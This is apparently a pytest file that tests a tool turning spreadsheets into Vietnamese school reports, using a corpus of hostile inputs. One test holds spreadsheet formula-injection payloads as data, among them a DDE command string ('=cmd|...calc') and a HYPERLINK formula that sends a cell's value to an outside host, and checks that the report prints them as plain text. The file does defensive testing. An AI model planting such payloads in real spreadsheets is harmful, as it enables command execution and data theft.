"""``outreach-xl report`` over the hostile corpus: unusable files and entries with errors stop with
their message and write nothing; the others give a report whose text is exactly what was typed."""

from __future__ import annotations

import shutil
import tempfile
from pathlib import Path

import docx
import pytest

from hostile.corpus import CASES, Case, write_corpus
from outreach_xl import make_school_report
from outreach_xl.errors import OutreachError, ValidationFailed
from support import digest, soffice_convert

HAS_SOFFICE = shutil.which("soffice") is not None
BLOCKING_RULES = {"type", "bounds", "formula_error", "required", "too_long"}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return write_corpus(tmp_path_factory.mktemp("hostile-report"))


def _text(path: Path) -> str:
    document = docx.Document(str(path))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_report_on_each_case(case: Case, corpus: dict[str, Path], tmp_path: Path) -> None:
    if case.name not in corpus:
        pytest.skip("needs LibreOffice (soffice) to generate")
    source = corpus[case.name]
    before = digest(source)
    out = tmp_path / "bao-cao.docx"
    if case.expect.error or case.expect.rules & BLOCKING_RULES:
        with pytest.raises(OutreachError) as info:
            make_school_report(source, out)
        if case.expect.error:
            assert type(info.value).__name__ == case.expect.error
        else:
            assert isinstance(info.value, ValidationFailed)
        assert "Cách sửa" in info.value.user_message()
        assert not out.exists()
    else:
        written = make_school_report(source, out)
        assert written == out and out.read_bytes()[:2] == b"PK"
    assert digest(source) == before


def test_formula_looking_text_is_printed_as_typed(corpus: dict[str, Path], tmp_path: Path) -> None:
    text = _text(make_school_report(corpus["formula_injection"], tmp_path / "r.docx"))
    assert '- =HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")' in text
    assert "- +84 đã gọi điện cho phụ huynh" in text  # a sign that is data, not a bullet
    assert "- Tổ chức 2 buổi tuyên truyền" in text  # a bullet typed by habit, not doubled
    assert "=cmd|' /C calc'!A0" in text and "- @SUM(1+1)" in text


def test_default_name_is_never_a_reserved_windows_name(corpus: dict[str, Path]) -> None:
    folder = Path(tempfile.mkdtemp())
    source = shutil.copy(corpus["reserved_names"], folder / "CON.xlsx")
    written = make_school_report(source)
    assert written.parent == folder
    assert written.stem.split("_")[-1].upper() not in {"CON", "PRN", "AUX", "NUL"}
    assert written.name.isascii()


@pytest.mark.skipif(not HAS_SOFFICE, reason="needs LibreOffice (soffice)")
def test_report_resaved_by_libreoffice_writer_keeps_its_text(
    corpus: dict[str, Path], tmp_path: Path
) -> None:
    original = make_school_report(corpus["dates_as_text"], tmp_path / "goc.docx")
    resaved = soffice_convert(original, "docx:MS Word 2007 XML", tmp_path / "out")
    assert resaved.read_bytes() != original.read_bytes()
    before, after = _text(original), _text(resaved)
    assert after == before
    page = docx.Document(str(resaved)).sections[0]
    assert round(page.page_width.mm) == 210 and round(page.left_margin.mm) == 30
